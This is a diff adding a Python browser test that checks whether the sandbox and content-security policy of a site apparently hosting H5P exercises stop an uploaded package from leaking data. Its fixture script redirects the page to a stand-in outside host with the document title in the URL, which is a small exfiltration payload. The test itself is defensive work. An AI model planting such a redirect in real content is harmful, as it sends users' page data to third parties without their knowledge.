@@ -319,3 +319,26 @@ def test_files_of_a_package_opened_directly_do_nothing(outcome):
         assert "sandbox" in answer.headers["content-security-policy"]
         assert answer.headers["x-content-type-options"] == "nosniff"
         assert page.title() != "ran"
+
+
+LEADS_AWAY = """
+var Test = {};
+Test.Away = function () { H5P.EventDispatcher.call(this); };
+Test.Away.prototype = Object.create(H5P.EventDispatcher.prototype);
+Test.Away.prototype.attach = function ($place) {
+  $place.append("<p>Ik ga weg</p>");
+  setTimeout(function () { window.location = ELSEWHERE_HERE + "/weg?wie=" + document.title; }, 200);
+};
+"""
+
+
+def test_a_package_sends_nothing_away_by_going_elsewhere_itself(demo_site, elsewhere, contexts):
+    script = LEADS_AWAY.replace("ELSEWHERE_HERE", json.dumps(elsewhere))
+    load(demo_site, "I8", package(**{**as_type("Test.Away"), "Test.Away-1.0/story.js": script}).getvalue())
+    page = contexts("trainer").new_page()
+    page.goto("/oefening/i8/")
+    page.click("main form button")
+    with page.expect_console_message(lambda said: "frame-src" in said.text):
+        page.wait_for_url("**/oefening-doen/**")
+    assert Listener.heard == []
+    page.close()
